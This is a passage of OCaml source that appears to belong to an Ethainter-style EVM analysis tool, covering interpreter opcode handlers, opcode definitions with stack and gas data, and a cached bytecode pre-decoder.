  fpush_int f (max 0 g)

let h_jumpdest _ _ = ()

let h_push f (ins : Bytecode.instr) =
  fpush_blit f (match ins.Bytecode.imm with Some v -> v | None -> U.zero)

let h_dup k f _ =
  need f k;
  fpush_blit f (at f k)

let h_swap k f _ =
  need f (k + 1);
  let a = f.f_stk in
  let top = f.f_sp - 1 in
  let t = Array.unsafe_get a top in
  Array.unsafe_set a top (Array.unsafe_get a (top - k));
  Array.unsafe_set a (top - k) t

let h_log k f _ =
  if f.f_static then raise (Evm_error "LOG in static context");
  need f 2;
  let off = at f 1 and len = at f 2 in
  f.f_sp <- f.f_sp - 2;
  let topics = List.init k (fun _ -> U.copy (fpop f)) in
  let data = Memory.load_bytes f.f_mem (as_offset off) (as_offset len) in
  f.f_ctx.logs :=
    { log_addr = f.f_self; topics; data } :: !(f.f_ctx.logs)

let h_create is_create2 f _ =
  let ctx = f.f_ctx in
  if f.f_static then raise (Evm_error "CREATE in static context");
  (* [value] survives past pushes that reuse its slot (callee frames
     copy it on CALLVALUE, but the transfer below happens after more
     pops): copy it out *)
  let value = U.copy (fpop f) in
  let off = fpop f in
  let len = fpop f in
  let _salt = if is_create2 then Some (fpop f) else None in
  let initcode = Memory.load_bytes f.f_mem (as_offset off) (as_offset len) in
  if f.f_depth >= max_call_depth then fpush_zero f
  else begin
    let creator_acct = State.account ctx.state f.f_self in
    let new_addr =
      State.contract_address ~creator:f.f_self ~nonce:creator_acct.nonce
    in
    State.bump_nonce ctx.state f.f_self;
    let snap = State.snapshot ctx.state in
    match State.transfer ctx.state ~src:f.f_self ~dst:new_addr ~value with
    | Error _ -> fpush_zero f
    | Ok () -> (
        State.set_code ctx.state new_addr initcode;
        match
          try
            execute_decoded ctx ~depth:(f.f_depth + 1) ~self:new_addr
              ~code_addr:new_addr ~caller:f.f_self ~callvalue:value
              ~calldata:"" ~static:false
          with Evm_error msg -> Failed msg
        with
        | Returned runtime ->
            State.set_code ctx.state new_addr runtime;
            ctx.effects := E_create new_addr :: !(ctx.effects);
            f.f_returndata <- "";
            fpush_blit f new_addr
        | Reverted data ->
            State.restore ctx.state snap;
            f.f_returndata <- data;
            fpush_zero f
        | Failed _ ->
            State.restore ctx.state snap;
            f.f_returndata <- "";
            fpush_zero f)
  end

let h_call (opv : Opcode.t) f _ =
  let ctx = f.f_ctx in
  let _gas = fpop f in
  let target = to_addr (fpop f) in
  let value =
    match opv with
    | Opcode.CALL | Opcode.CALLCODE -> U.copy (fpop f)
    | _ -> U.zero
  in
  let in_off = fpop f in
  let in_len = fpop f in
  let out_off = fpop f in
  let out_len = fpop f in
  let args = Memory.load_bytes f.f_mem (as_offset in_off) (as_offset in_len) in
  if f.f_static && opv = Opcode.CALL && not (U.is_zero value) then
    raise (Evm_error "value CALL in static context");
  if f.f_depth >= max_call_depth then fpush_zero f
  else begin
    let snap = State.snapshot ctx.state in
    let sub_self, sub_code, sub_caller, sub_value, sub_static =
      match opv with
      | Opcode.CALL -> (target, target, f.f_self, value, f.f_static)
      | Opcode.CALLCODE -> (f.f_self, target, f.f_self, value, f.f_static)
      | Opcode.DELEGATECALL ->
          (f.f_self, target, f.f_caller, f.f_callvalue, f.f_static)
      | Opcode.STATICCALL -> (target, target, f.f_self, U.zero, true)
      | _ -> assert false
    in
    let transfer_res =
      if opv = Opcode.CALL && not (U.is_zero value) then
        State.transfer ctx.state ~src:f.f_self ~dst:target ~value
      else Ok ()
    in
    match transfer_res with
    | Error _ -> fpush_zero f
    | Ok () -> (
        let o =
          if String.length (State.code ctx.state sub_code) = 0 then
            (* calling an EOA: succeeds, returns nothing *)
            Returned ""
          else
            (* a failing callee is contained: the caller sees a 0
               result, it does not abort *)
            try
              execute_decoded ctx ~depth:(f.f_depth + 1) ~self:sub_self
                ~code_addr:sub_code ~caller:sub_caller ~callvalue:sub_value
                ~calldata:args ~static:sub_static
            with Evm_error msg -> Failed msg
        in
        match o with
        | Returned data ->
            f.f_returndata <- data;
            (* NB: only min(out_len, |data|) bytes are written; this
               is exactly the staticcall output-buffer subtlety of
               §3.5. *)
            let wlen = min (as_offset out_len) (String.length data) in
            Memory.store_bytes f.f_mem (as_offset out_off)
              (String.sub data 0 wlen);
            fpush_bool f true
        | Reverted data ->
            State.restore ctx.state snap;
            f.f_returndata <- data;
            let wlen = min (as_offset out_len) (String.length data) in
            Memory.store_bytes f.f_mem (as_offset out_off)
              (String.sub data 0 wlen);
            fpush_zero f
        | Failed _ ->
            State.restore ctx.state snap;
            f.f_returndata <- "";
            fpush_zero f)
  end

let h_return f _ =
  need f 2;
  let off = at f 1 and len = at f 2 in
  f.f_sp <- f.f_sp - 2;
  f.f_running <- false;
  f.f_result <-
    Returned (Memory.load_bytes f.f_mem (as_offset off) (as_offset len))

let h_revert f _ =
  need f 2;
  let off = at f 1 and len = at f 2 in
  f.f_sp <- f.f_sp - 2;
  f.f_running <- false;
  f.f_result <-
    Reverted (Memory.load_bytes f.f_mem (as_offset off) (as_offset len))

let h_selfdestruct f _ =
  if f.f_static then raise (Evm_error "SELFDESTRUCT in static context");
  let beneficiary = to_addr (fpop f) in
  State.selfdestruct f.f_ctx.state ~victim:f.f_self ~beneficiary;
  f.f_ctx.effects := E_selfdestruct f.f_self :: !(f.f_ctx.effects);
  f.f_running <- false;
  f.f_result <- Returned ""

(* Patch the table. Indexes are the canonical Opcode.to_byte values;
   PUSH/DUP/SWAP/LOG get one specialized closure per byte (the width
   baked in), so no per-step variant scrutiny remains anywhere. *)
let () =
  let t = handler_table in
  t.(0x00) <- h_stop;
  t.(0x01) <- h_add;
  t.(0x02) <- h_mul;
  t.(0x03) <- h_sub;
  t.(0x04) <- h_div;
  t.(0x05) <- h_sdiv;
  t.(0x06) <- h_mod;
  t.(0x07) <- h_smod;
  t.(0x08) <- h_addmod;
  t.(0x09) <- h_mulmod;
  t.(0x0a) <- h_exp;
  t.(0x0b) <- h_signextend;
  t.(0x10) <- h_lt;
  t.(0x11) <- h_gt;
  t.(0x12) <- h_slt;
  t.(0x13) <- h_sgt;
  t.(0x14) <- h_eq;
  t.(0x15) <- h_iszero;
  t.(0x16) <- h_and;
  t.(0x17) <- h_or;
  t.(0x18) <- h_xor;
  t.(0x19) <- h_not;
  t.(0x1a) <- h_byte;
  t.(0x1b) <- h_shl;
  t.(0x1c) <- h_shr;
  t.(0x1d) <- h_sar;
  t.(0x20) <- h_sha3;
  t.(0x30) <- h_address;
  t.(0x31) <- h_balance;
  t.(0x32) <- h_origin;
  t.(0x33) <- h_caller;
  t.(0x34) <- h_callvalue;
  t.(0x35) <- h_calldataload;
  t.(0x36) <- h_calldatasize;
  t.(0x37) <- h_calldatacopy;
  t.(0x38) <- h_codesize;
  t.(0x39) <- h_codecopy;
  t.(0x3a) <- h_gasprice;
  t.(0x3b) <- h_extcodesize;
  t.(0x3c) <- h_extcodecopy;
  t.(0x3d) <- h_returndatasize;
  t.(0x3e) <- h_returndatacopy;
  t.(0x3f) <- h_extcodehash;
  t.(0x40) <- h_blockhash;
  t.(0x41) <- h_coinbase;
  t.(0x42) <- h_timestamp;
  t.(0x43) <- h_number;
  t.(0x44) <- h_difficulty;
  t.(0x45) <- h_gaslimit;
  t.(0x46) <- h_chainid;
  t.(0x47) <- h_selfbalance;
  t.(0x50) <- h_pop;
  t.(0x51) <- h_mload;
  t.(0x52) <- h_mstore;
  t.(0x53) <- h_mstore8;
  t.(0x54) <- h_sload;
  t.(0x55) <- h_sstore;
  t.(0x56) <- h_jump;
  t.(0x57) <- h_jumpi;
  t.(0x58) <- h_pc;
  t.(0x59) <- h_msize;
  t.(0x5a) <- h_gas;
  t.(0x5b) <- h_jumpdest;
  for b = 0x60 to 0x7f do
    t.(b) <- h_push
  done;
  for k = 1 to 16 do
    t.(0x7f + k) <- h_dup k;
    t.(0x8f + k) <- h_swap k
  done;
  for k = 0 to 4 do
    t.(0xa0 + k) <- h_log k
  done;
  t.(0xf0) <- h_create false;
  t.(0xf5) <- h_create true;
  t.(0xf1) <- h_call Opcode.CALL;
  t.(0xf2) <- h_call Opcode.CALLCODE;
  t.(0xf4) <- h_call Opcode.DELEGATECALL;
  t.(0xfa) <- h_call Opcode.STATICCALL;
  t.(0xf3) <- h_return;
  t.(0xfd) <- h_revert;
  t.(0xff) <- h_selfdestruct
(* 0xfe (INVALID) and every unknown byte keep the table default. *)

(** Full result of a top-level message call. *)
type call_result = {
  outcome : outcome;
  tx_trace : trace_entry list;
  tx_logs : log_entry list;  (** emitted events (empty if rolled back) *)
  tx_effects : effect list;
      (** chain-observable effects, chronological (empty if rolled
          back); see {!effect} for the inner-revert caveat *)
  gas_used : int;
}

(** Top-level message call (a transaction's execution). Rolls back all
    state changes — and drops emitted logs — if the call reverts or
    fails. [engine] selects the executor (default {!Decoded}); both
    engines produce identical results, bit for bit. *)
let call_full ?(engine = Decoded) ?(gas = 10_000_000)
    ?(max_steps = 2_000_000) ?(block_number = U.of_int 1)
    ?(timestamp = U.of_int 1_600_000_000) (state : State.t) ~(caller : U.t)
    ~(target : U.t) ~(value : U.t) ~(calldata : string) : call_result =
  let ctx =
    { state; gas; origin = caller; gas_price = U.one; block_number;
      timestamp; chain_id = U.of_int 3 (* Ropsten *);
      trace = ref []; tmeta = [||]; faddr = [||]; nframes = 0;
      trace_len = 0; max_trace = 1_000_000;
      steps = 0; max_steps; logs = ref []; effects = ref [] }
  in
  let snap = State.snapshot state in
  (match State.transfer state ~src:caller ~dst:target ~value with
  | Error _ -> ()
  | Ok () -> ());
  let outcome =
    if String.length (State.code state target) = 0 then Returned ""
    else
      try
        match engine with
        | Decoded ->
            execute_decoded ctx ~depth:0 ~self:target ~code_addr:target
              ~caller ~callvalue:value ~calldata ~static:false
        | Bytewise ->
            execute_bytewise ctx ~depth:0 ~self:target ~code_addr:target
              ~caller ~callvalue:value ~calldata ~static:false
      with Evm_error msg -> Failed msg
  in
  let logs, effects =
    match outcome with
    | Returned _ -> (List.rev !(ctx.logs), List.rev !(ctx.effects))
    | Reverted _ | Failed _ ->
        State.restore state snap;
        ([], [])
  in
  let tx_trace =
    match engine with
    | Bytewise -> List.rev !(ctx.trace)
    | Decoded ->
        (* reconstruct the same chronological list from the packed
           buffer (built back-to-front so each entry conses once);
           ops come back as the shared [Opcode.decode_table] values —
           structurally identical to the instruction stream's *)
        let rec build k acc =
          if k < 0 then acc
          else
            let m = Array.unsafe_get ctx.tmeta k in
            build (k - 1)
              ({ t_depth = (m lsr 32) land 0x7FF;
                 t_addr = Array.unsafe_get ctx.faddr (m lsr 43);
                 t_pc = m land 0xFFFFFF;
                 t_op = Opcode.of_byte_total (m lsr 24) }
              :: acc)
        in
        build (ctx.trace_len - 1) []
  in
  { outcome; tx_trace; tx_logs = logs; tx_effects = effects;
    gas_used = max 0 (gas - ctx.gas) }

let call ?engine ?gas ?max_steps ?block_number ?timestamp state ~caller
    ~target ~value ~calldata : outcome * trace_entry list =
  let r =
    call_full ?engine ?gas ?max_steps ?block_number ?timestamp state ~caller
      ~target ~value ~calldata
  in
  (r.outcome, r.tx_trace)

(** Did the trace actually execute a SELFDESTRUCT in [addr]'s context? *)
let trace_selfdestructed (trace : trace_entry list) (addr : U.t) : bool =
  List.exists
    (fun t -> t.t_op = Opcode.SELFDESTRUCT && U.equal t.t_addr addr)
    trace
