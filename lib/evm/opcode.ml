(** EVM opcode definitions: byte encodings, mnemonics, and stack
    signatures (number of operands popped / results pushed).

    Covers the Istanbul-era instruction set, which includes everything
    the paper's analysis needs: [SHA3] for data-structure addressing,
    [SLOAD]/[SSTORE] for persistent storage, [CALLER] as the sender
    source, [CALLDATALOAD] as the taint source, [JUMPI] for guards, and
    the sinks [SELFDESTRUCT], [DELEGATECALL], [STATICCALL], [CALL]. *)

type t =
  | STOP | ADD | MUL | SUB | DIV | SDIV | MOD | SMOD | ADDMOD | MULMOD
  | EXP | SIGNEXTEND
  | LT | GT | SLT | SGT | EQ | ISZERO | AND | OR | XOR | NOT | BYTE
  | SHL | SHR | SAR
  | SHA3
  | ADDRESS | BALANCE | ORIGIN | CALLER | CALLVALUE | CALLDATALOAD
  | CALLDATASIZE | CALLDATACOPY | CODESIZE | CODECOPY | GASPRICE
  | EXTCODESIZE | EXTCODECOPY | RETURNDATASIZE | RETURNDATACOPY
  | EXTCODEHASH
  | BLOCKHASH | COINBASE | TIMESTAMP | NUMBER | DIFFICULTY | GASLIMIT
  | CHAINID | SELFBALANCE
  | POP | MLOAD | MSTORE | MSTORE8 | SLOAD | SSTORE
  | JUMP | JUMPI | PC | MSIZE | GAS | JUMPDEST
  | PUSH of int (* 1..32 *)
  | DUP of int (* 1..16 *)
  | SWAP of int (* 1..16 *)
  | LOG of int (* 0..4 *)
  | CREATE | CALL | CALLCODE | RETURN | DELEGATECALL | CREATE2
  | STATICCALL | REVERT | INVALID | SELFDESTRUCT

let to_byte = function
  | STOP -> 0x00 | ADD -> 0x01 | MUL -> 0x02 | SUB -> 0x03 | DIV -> 0x04
  | SDIV -> 0x05 | MOD -> 0x06 | SMOD -> 0x07 | ADDMOD -> 0x08
  | MULMOD -> 0x09 | EXP -> 0x0a | SIGNEXTEND -> 0x0b
  | LT -> 0x10 | GT -> 0x11 | SLT -> 0x12 | SGT -> 0x13 | EQ -> 0x14
  | ISZERO -> 0x15 | AND -> 0x16 | OR -> 0x17 | XOR -> 0x18 | NOT -> 0x19
  | BYTE -> 0x1a | SHL -> 0x1b | SHR -> 0x1c | SAR -> 0x1d
  | SHA3 -> 0x20
  | ADDRESS -> 0x30 | BALANCE -> 0x31 | ORIGIN -> 0x32 | CALLER -> 0x33
  | CALLVALUE -> 0x34 | CALLDATALOAD -> 0x35 | CALLDATASIZE -> 0x36
  | CALLDATACOPY -> 0x37 | CODESIZE -> 0x38 | CODECOPY -> 0x39
  | GASPRICE -> 0x3a | EXTCODESIZE -> 0x3b | EXTCODECOPY -> 0x3c
  | RETURNDATASIZE -> 0x3d | RETURNDATACOPY -> 0x3e | EXTCODEHASH -> 0x3f
  | BLOCKHASH -> 0x40 | COINBASE -> 0x41 | TIMESTAMP -> 0x42
  | NUMBER -> 0x43 | DIFFICULTY -> 0x44 | GASLIMIT -> 0x45
  | CHAINID -> 0x46 | SELFBALANCE -> 0x47
  | POP -> 0x50 | MLOAD -> 0x51 | MSTORE -> 0x52 | MSTORE8 -> 0x53
  | SLOAD -> 0x54 | SSTORE -> 0x55 | JUMP -> 0x56 | JUMPI -> 0x57
  | PC -> 0x58 | MSIZE -> 0x59 | GAS -> 0x5a | JUMPDEST -> 0x5b
  | PUSH n -> 0x5f + n
  | DUP n -> 0x7f + n
  | SWAP n -> 0x8f + n
  | LOG n -> 0xa0 + n
  | CREATE -> 0xf0 | CALL -> 0xf1 | CALLCODE -> 0xf2 | RETURN -> 0xf3
  | DELEGATECALL -> 0xf4 | CREATE2 -> 0xf5 | STATICCALL -> 0xfa
  | REVERT -> 0xfd | INVALID -> 0xfe | SELFDESTRUCT -> 0xff

let of_byte b =
  match b with
  | 0x00 -> Some STOP | 0x01 -> Some ADD | 0x02 -> Some MUL
  | 0x03 -> Some SUB | 0x04 -> Some DIV | 0x05 -> Some SDIV
  | 0x06 -> Some MOD | 0x07 -> Some SMOD | 0x08 -> Some ADDMOD
  | 0x09 -> Some MULMOD | 0x0a -> Some EXP | 0x0b -> Some SIGNEXTEND
  | 0x10 -> Some LT | 0x11 -> Some GT | 0x12 -> Some SLT
  | 0x13 -> Some SGT | 0x14 -> Some EQ | 0x15 -> Some ISZERO
  | 0x16 -> Some AND | 0x17 -> Some OR | 0x18 -> Some XOR
  | 0x19 -> Some NOT | 0x1a -> Some BYTE | 0x1b -> Some SHL
  | 0x1c -> Some SHR | 0x1d -> Some SAR
  | 0x20 -> Some SHA3
  | 0x30 -> Some ADDRESS | 0x31 -> Some BALANCE | 0x32 -> Some ORIGIN
  | 0x33 -> Some CALLER | 0x34 -> Some CALLVALUE
  | 0x35 -> Some CALLDATALOAD | 0x36 -> Some CALLDATASIZE
  | 0x37 -> Some CALLDATACOPY | 0x38 -> Some CODESIZE
  | 0x39 -> Some CODECOPY | 0x3a -> Some GASPRICE
  | 0x3b -> Some EXTCODESIZE | 0x3c -> Some EXTCODECOPY
  | 0x3d -> Some RETURNDATASIZE | 0x3e -> Some RETURNDATACOPY
  | 0x3f -> Some EXTCODEHASH
  | 0x40 -> Some BLOCKHASH | 0x41 -> Some COINBASE
  | 0x42 -> Some TIMESTAMP | 0x43 -> Some NUMBER
  | 0x44 -> Some DIFFICULTY | 0x45 -> Some GASLIMIT
  | 0x46 -> Some CHAINID | 0x47 -> Some SELFBALANCE
  | 0x50 -> Some POP | 0x51 -> Some MLOAD | 0x52 -> Some MSTORE
  | 0x53 -> Some MSTORE8 | 0x54 -> Some SLOAD | 0x55 -> Some SSTORE
  | 0x56 -> Some JUMP | 0x57 -> Some JUMPI | 0x58 -> Some PC
  | 0x59 -> Some MSIZE | 0x5a -> Some GAS | 0x5b -> Some JUMPDEST
  | b when b >= 0x60 && b <= 0x7f -> Some (PUSH (b - 0x5f))
  | b when b >= 0x80 && b <= 0x8f -> Some (DUP (b - 0x7f))
  | b when b >= 0x90 && b <= 0x9f -> Some (SWAP (b - 0x8f))
  | b when b >= 0xa0 && b <= 0xa4 -> Some (LOG (b - 0xa0))
  | 0xf0 -> Some CREATE | 0xf1 -> Some CALL | 0xf2 -> Some CALLCODE
  | 0xf3 -> Some RETURN | 0xf4 -> Some DELEGATECALL
  | 0xf5 -> Some CREATE2 | 0xfa -> Some STATICCALL
  | 0xfd -> Some REVERT | 0xfe -> Some INVALID
  | 0xff -> Some SELFDESTRUCT
  | _ -> None

(* 256-entry flat decode table: unknown bytes are INVALID, which is
   what both the interpreter and mainstream disassemblers do (data
   sections must not abort decoding). The one-time program decoder
   dispatches through this instead of the [of_byte] match chain. *)
let decode_table : t array =
  Array.init 256 (fun b ->
      match of_byte b with Some op -> op | None -> INVALID)

(** Total decode via {!decode_table}: never [None], unknown bytes are
    [INVALID]. *)
let of_byte_total (b : int) : t = Array.unsafe_get decode_table (b land 0xff)

let name = function
  | STOP -> "STOP" | ADD -> "ADD" | MUL -> "MUL" | SUB -> "SUB"
  | DIV -> "DIV" | SDIV -> "SDIV" | MOD -> "MOD" | SMOD -> "SMOD"
  | ADDMOD -> "ADDMOD" | MULMOD -> "MULMOD" | EXP -> "EXP"
  | SIGNEXTEND -> "SIGNEXTEND"
  | LT -> "LT" | GT -> "GT" | SLT -> "SLT" | SGT -> "SGT" | EQ -> "EQ"
  | ISZERO -> "ISZERO" | AND -> "AND" | OR -> "OR" | XOR -> "XOR"
  | NOT -> "NOT" | BYTE -> "BYTE" | SHL -> "SHL" | SHR -> "SHR"
  | SAR -> "SAR"
  | SHA3 -> "SHA3"
  | ADDRESS -> "ADDRESS" | BALANCE -> "BALANCE" | ORIGIN -> "ORIGIN"
  | CALLER -> "CALLER" | CALLVALUE -> "CALLVALUE"
  | CALLDATALOAD -> "CALLDATALOAD" | CALLDATASIZE -> "CALLDATASIZE"
  | CALLDATACOPY -> "CALLDATACOPY" | CODESIZE -> "CODESIZE"
  | CODECOPY -> "CODECOPY" | GASPRICE -> "GASPRICE"
  | EXTCODESIZE -> "EXTCODESIZE" | EXTCODECOPY -> "EXTCODECOPY"
  | RETURNDATASIZE -> "RETURNDATASIZE" | RETURNDATACOPY -> "RETURNDATACOPY"
  | EXTCODEHASH -> "EXTCODEHASH"
  | BLOCKHASH -> "BLOCKHASH" | COINBASE -> "COINBASE"
  | TIMESTAMP -> "TIMESTAMP" | NUMBER -> "NUMBER"
  | DIFFICULTY -> "DIFFICULTY" | GASLIMIT -> "GASLIMIT"
  | CHAINID -> "CHAINID" | SELFBALANCE -> "SELFBALANCE"
  | POP -> "POP" | MLOAD -> "MLOAD" | MSTORE -> "MSTORE"
  | MSTORE8 -> "MSTORE8" | SLOAD -> "SLOAD" | SSTORE -> "SSTORE"
  | JUMP -> "JUMP" | JUMPI -> "JUMPI" | PC -> "PC" | MSIZE -> "MSIZE"
  | GAS -> "GAS" | JUMPDEST -> "JUMPDEST"
  | PUSH n -> Printf.sprintf "PUSH%d" n
  | DUP n -> Printf.sprintf "DUP%d" n
  | SWAP n -> Printf.sprintf "SWAP%d" n
  | LOG n -> Printf.sprintf "LOG%d" n
  | CREATE -> "CREATE" | CALL -> "CALL" | CALLCODE -> "CALLCODE"
  | RETURN -> "RETURN" | DELEGATECALL -> "DELEGATECALL"
  | CREATE2 -> "CREATE2" | STATICCALL -> "STATICCALL"
  | REVERT -> "REVERT" | INVALID -> "INVALID"
  | SELFDESTRUCT -> "SELFDESTRUCT"

(** Number of immediate data bytes following the opcode. *)
let immediate_size = function PUSH n -> n | _ -> 0

(** Stack signature: (operands popped, results pushed). *)
let stack_arity = function
  | STOP -> (0, 0)
  | ADD | MUL | SUB | DIV | SDIV | MOD | SMOD | EXP | SIGNEXTEND -> (2, 1)
  | ADDMOD | MULMOD -> (3, 1)
  | LT | GT | SLT | SGT | EQ | AND | OR | XOR | BYTE | SHL | SHR | SAR ->
      (2, 1)
  | ISZERO | NOT -> (1, 1)
  | SHA3 -> (2, 1)
  | ADDRESS | ORIGIN | CALLER | CALLVALUE | CALLDATASIZE | CODESIZE
  | GASPRICE | RETURNDATASIZE | COINBASE | TIMESTAMP | NUMBER | DIFFICULTY
  | GASLIMIT | CHAINID | SELFBALANCE | PC | MSIZE | GAS ->
      (0, 1)
  | BALANCE | CALLDATALOAD | EXTCODESIZE | EXTCODEHASH | BLOCKHASH ->
      (1, 1)
  | CALLDATACOPY | CODECOPY | RETURNDATACOPY -> (3, 0)
  | EXTCODECOPY -> (4, 0)
  | POP -> (1, 0)
  | MLOAD | SLOAD -> (1, 1)
  | MSTORE | MSTORE8 | SSTORE -> (2, 0)
  | JUMP -> (1, 0)
  | JUMPI -> (2, 0)
  | JUMPDEST -> (0, 0)
  | PUSH _ -> (0, 1)
  | DUP n -> (n, n + 1)
  | SWAP n -> (n + 1, n + 1)
  | LOG n -> (n + 2, 0)
  | CREATE -> (3, 1)
  | CREATE2 -> (4, 1)
  | CALL | CALLCODE -> (7, 1)
  | DELEGATECALL | STATICCALL -> (6, 1)
  | RETURN | REVERT -> (2, 0)
  | INVALID -> (0, 0)
  | SELFDESTRUCT -> (1, 0)

(** Does this opcode end a basic block? *)
let is_block_terminator = function
  | STOP | JUMP | JUMPI | RETURN | REVERT | INVALID | SELFDESTRUCT -> true
  | _ -> false

(** Can control flow fall through past this opcode? *)
let falls_through = function
  | STOP | JUMP | RETURN | REVERT | INVALID | SELFDESTRUCT -> false
  | _ -> true

(** Simplified gas schedule (Istanbul-flavoured): enough fidelity for
    the testnet simulator's accounting and for timeout experiments. *)
let base_gas = function
  | STOP | JUMPDEST -> 1
  | ADD | SUB | NOT | LT | GT | SLT | SGT | EQ | ISZERO | AND | OR | XOR
  | BYTE | SHL | SHR | SAR | CALLDATALOAD | MLOAD | MSTORE | MSTORE8
  | PUSH _ | DUP _ | SWAP _ | PC | MSIZE | GAS | POP | CALLVALUE | CALLER
  | ADDRESS | ORIGIN | CALLDATASIZE | CODESIZE | GASPRICE
  | RETURNDATASIZE | COINBASE | TIMESTAMP | NUMBER | DIFFICULTY
  | GASLIMIT | CHAINID ->
      3
  | MUL | DIV | SDIV | MOD | SMOD | SIGNEXTEND -> 5
  | ADDMOD | MULMOD | JUMP -> 8
  | JUMPI -> 10
  | EXP -> 50
  | SHA3 -> 30
  | SELFBALANCE -> 5
  | BALANCE | EXTCODESIZE | EXTCODEHASH -> 700
  | SLOAD -> 800
  | SSTORE -> 5000
  | CALLDATACOPY | CODECOPY | RETURNDATACOPY -> 3
  | EXTCODECOPY -> 700
  | BLOCKHASH -> 20
  | LOG n -> 375 * (n + 1)
  | CREATE | CREATE2 -> 32000
  | CALL | CALLCODE | DELEGATECALL | STATICCALL -> 700
  | RETURN | REVERT -> 0
  | INVALID -> 0
  | SELFDESTRUCT -> 5000

let pp fmt op = Format.pp_print_string fmt (name op)
