(* Pre-decoded basic-block EVM programs. See program.mli for the
   invariants; the interpreter's fast path and the tail-refund
   discipline depend on them. *)

module U = Ethainter_word.Uint256

type block = {
  bb_start : int;
  bb_len : int;
  bb_gas : int;
  bb_need : int;
  bb_grow : int;
  bb_delta : int;
}

type t = {
  code : string;
  code_hash : string;
  instrs : Bytecode.instr array;
  ops : Bytes.t;
  gas_rest : int array;
  blocks : block array;
  block_at_pc : int array;
  jumpdest : Bytes.t;
}

(* ---------------- decoding ---------------- *)

let decode_with_hash (code : string) (code_hash : string) : t =
  let n = String.length code in
  (* One linear pass over the bytes: decoded instructions into a
     growable array (PUSH immediates materialized once, zero-filled
     past end-of-code), valid-JUMPDEST set as a side product (a 0x5b
     byte is a target iff it is an opcode, i.e. not immediate data). *)
  let cap = ref (max 16 n) in
  let arr = ref (Array.make !cap { Bytecode.pc = 0; op = Opcode.STOP; imm = None }) in
  let count = ref 0 in
  let emit i =
    if !count = !cap then begin
      cap := 2 * !cap;
      let a = Array.make !cap i in
      Array.blit !arr 0 a 0 !count;
      arr := a
    end;
    !arr.(!count) <- i;
    incr count
  in
  let jumpdest = Bytes.make n '\000' in
  let pc = ref 0 in
  while !pc < n do
    let op = Opcode.of_byte_total (Char.code (String.unsafe_get code !pc)) in
    let isz = Opcode.immediate_size op in
    if isz = 0 then begin
      if op = Opcode.JUMPDEST then Bytes.set jumpdest !pc '\001';
      emit { Bytecode.pc = !pc; op; imm = None };
      pc := !pc + 1
    end
    else begin
      let avail = min isz (n - !pc - 1) in
      let data =
        if avail = isz then String.sub code (!pc + 1) isz
        else String.sub code (!pc + 1) avail ^ String.make (isz - avail) '\000'
      in
      emit { Bytecode.pc = !pc; op; imm = Some (U.of_bytes data) };
      pc := !pc + 1 + isz
    end
  done;
  let instrs = Array.sub !arr 0 !count in
  let m = Array.length instrs in
  (* Canonical opcode byte per instruction (unknown bytes decoded as
     INVALID map to INVALID's byte): the threaded-dispatch index
     stream for the interpreter's handler table. *)
  let ops =
    Bytes.init m (fun i ->
        Char.unsafe_chr (Opcode.to_byte instrs.(i).Bytecode.op))
  in
  (* Block boundaries: instruction 0, every JUMPDEST, the instruction
     after every terminator — the same rule the decompiler used. *)
  let boundary = Array.make (max m 1) false in
  if m > 0 then boundary.(0) <- true;
  for i = 0 to m - 1 do
    let op = instrs.(i).Bytecode.op in
    if op = Opcode.JUMPDEST then boundary.(i) <- true;
    if Opcode.is_block_terminator op && i + 1 < m then boundary.(i + 1) <- true
  done;
  let nblocks = ref 0 in
  for i = 0 to m - 1 do
    if boundary.(i) then incr nblocks
  done;
  let blocks =
    Array.make (max !nblocks 1)
      { bb_start = 0; bb_len = 0; bb_gas = 0; bb_need = 0; bb_grow = 0;
        bb_delta = 0 }
  in
  let gas_rest = Array.make m 0 in
  let block_at_pc = Array.make n (-1) in
  let bk = ref 0 in
  let i = ref 0 in
  while !i < m do
    let start = !i in
    incr i;
    while !i < m && not boundary.(!i) do
      incr i
    done;
    let len = !i - start in
    (* static gas + stack metadata over the block, and the per
       instruction rest-of-block gas (summed back-to-front) *)
    let rest = ref 0 in
    for j = start + len - 1 downto start do
      gas_rest.(j) <- !rest;
      rest := !rest + Opcode.base_gas instrs.(j).Bytecode.op
    done;
    let cur = ref 0 and need = ref 0 and grow = ref 0 in
    for j = start to start + len - 1 do
      let pops, pushes = Opcode.stack_arity instrs.(j).Bytecode.op in
      if pops - !cur > !need then need := pops - !cur;
      cur := !cur - pops + pushes;
      if !cur > !grow then grow := !cur
    done;
    blocks.(!bk) <-
      { bb_start = start; bb_len = len; bb_gas = !rest; bb_need = !need;
        bb_grow = !grow; bb_delta = !cur };
    block_at_pc.(instrs.(start).Bytecode.pc) <- !bk;
    incr bk
  done;
  let blocks = Array.sub blocks 0 !bk in
  { code; code_hash; instrs; ops; gas_rest; blocks; block_at_pc; jumpdest }

(* ---------------- process-wide cache ---------------- *)

(* The lib/core cache idiom scaled down: one mutex-protected table
   keyed by content hash, FIFO-bounded, monotonic counters. The decode
   itself runs outside the lock; a lost race decodes twice and keeps
   the first entry (both are semantically identical). *)

let decodes = Atomic.make 0
let hits = Atomic.make 0
let evictions = Atomic.make 0

let cache_cap =
  match int_of_string_opt (try Sys.getenv "ETHAINTER_PROGRAM_CACHE_CAP" with Not_found -> "") with
  | Some c when c > 0 -> c
  | _ -> 4096

let cache_mu = Mutex.create ()
let cache : (string, t) Hashtbl.t = Hashtbl.create 256
let cache_order : string Queue.t = Queue.create ()

let decode (code : string) : t =
  Atomic.incr decodes;
  decode_with_hash code (Ethainter_crypto.Keccak.hash code)

let of_code (code : string) : t =
  let h = Ethainter_crypto.Keccak.hash code in
  Mutex.lock cache_mu;
  match Hashtbl.find_opt cache h with
  | Some p ->
      Atomic.incr hits;
      Mutex.unlock cache_mu;
      p
  | None ->
      Mutex.unlock cache_mu;
      Atomic.incr decodes;
      let p = decode_with_hash code h in
      Mutex.lock cache_mu;
      let p =
        match Hashtbl.find_opt cache h with
        | Some existing -> existing (* lost a decode race; keep first *)
        | None ->
            Hashtbl.replace cache h p;
            Queue.push h cache_order;
            while Hashtbl.length cache > cache_cap do
              let victim = Queue.pop cache_order in
              if Hashtbl.mem cache victim then begin
                Hashtbl.remove cache victim;
                Atomic.incr evictions
              end
            done;
            p
      in
      Mutex.unlock cache_mu;
      p

let empty : t = decode_with_hash "" (Ethainter_crypto.Keccak.hash "")

(* ---------------- accessors ---------------- *)

let is_jumpdest (p : t) (pc : int) : bool =
  pc >= 0 && pc < Bytes.length p.jumpdest && Bytes.get p.jumpdest pc = '\001'

let instr_count (p : t) = Array.length p.instrs
let block_count (p : t) = Array.length p.blocks

